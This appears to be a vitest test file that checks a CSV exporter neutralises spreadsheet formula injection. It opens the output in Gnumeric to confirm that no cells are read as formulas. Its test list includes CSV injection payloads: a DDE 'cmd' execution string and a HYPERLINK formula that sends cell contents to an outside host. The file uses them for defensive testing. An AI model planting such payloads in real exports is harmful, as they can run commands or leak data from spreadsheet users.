import { Buffer } from 'node:buffer'
import { execFile } from 'node:child_process'
import { mkdtemp, rm, readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import fc from 'fast-check'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { defaultCsvOptions, type CsvOptions } from '#shared/lists/export.ts'
import { CellReader } from '../columns/cell-reader.ts'
import { csvWriter } from './csv-writer.ts'

let folder: string
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'clavis-spreadsheet-'))
})
afterEach(() => rm(folder, { recursive: true }))

/** Known formula injections, with the delimiters and quotes around them. */
const wellKnown = [
  '=1+1',
  '=HYPERLINK("https://example.com/?"&A1,"Open")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'x,=1+1',
  'x;=1+1',
  'x\t=1+1',
  'x\r\n=1+1',
  '","=1+1',
  '"=1+1"',
  '"\r\n=1+1',
  "'=1+1",
  ' =1+1',
]

function csvOf(texts: readonly string[], options: CsvOptions): string {
  let csv = ''
  const writer = csvWriter(
    { write: (part) => (csv += typeof part === 'string' ? part : Buffer.from(part).toString()) },
    { paths: ['text', 'list', 'object'], names: ['text', 'list', 'object'], furtherMembers: false },
    options,
  )
  const cells = new CellReader(['text', 'list', 'object'])
  for (const text of texts) {
    const record = Buffer.from(JSON.stringify({ list: [text, -1, text], object: { [text]: text }, text }))
    writer.record(record, cells.spans(record))
  }
  writer.end()
  return csv
}

test.each(['comma', 'semicolon', 'tab'] as const)(
  'CSV export: a spreadsheet finds no formula in it, whatever its texts, %s',
  async (delimiter) => {
    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', ';', '')
    const rest = fc.string({ unit: fc.constantFrom(...Array.from('=+-@1A(),;"\'\t\r\n|!&')), maxLength: 8 })
    const drawn = fc.sample(fc.tuple(start, start, rest), 3000).map((parts) => parts.join(''))
    const texts = [...wellKnown, ...drawn]
    const options: CsvOptions = { ...defaultCsvOptions, delimiter }
    const { formulas, others } = await openInSpreadsheet(csvOf(texts, options), folder)
    expect(formulas).toEqual([])
    expect(others.length).toBeGreaterThan(texts.length)
  },
)

test.each(['comma', 'semicolon', 'tab'] as const)('Spreadsheet: finds unescaped formulas, %s', async (delimiter) => {
  const options: CsvOptions = { ...defaultCsvOptions, delimiter, guardFormulas: false }
  const { formulas } = await openInSpreadsheet(csvOf(wellKnown, options), folder)
  expect(formulas.join(' ')).toContain('hyperlink(')
})

const run = promisify(execFile)

/**
 * Returns the cells that a spreadsheet program (Gnumeric) reads from a CSV file: formulas that it would calculate, and
 * all others.
 * @param folder for its files
 */
async function openInSpreadsheet(
  csv: string,
  folder: string,
): Promise<{ readonly formulas: string[]; readonly others: string[] }> {
  const [file, opened] = [join(folder, 'opened.csv'), join(folder, 'opened.xml')]
  await writeFile(file, csv)
  await run('ssconvert', ['--export-type=Gnumeric_XmlIO:sax:0', file, opened])
  const cells = [...(await readFile(opened, 'utf8')).matchAll(/<gnm:Cell ([^>]*)>([^<]*)<\/gnm:Cell>/gu)]
  const textsOf = (wanted: boolean): string[] =>
    // Only cells that are not formulas have a type.
    cells.filter(([, facts = '']) => !facts.includes('ValueType=') === wanted).map(([, , text = '']) => text)
  return { formulas: textsOf(true), others: textsOf(false) }
}
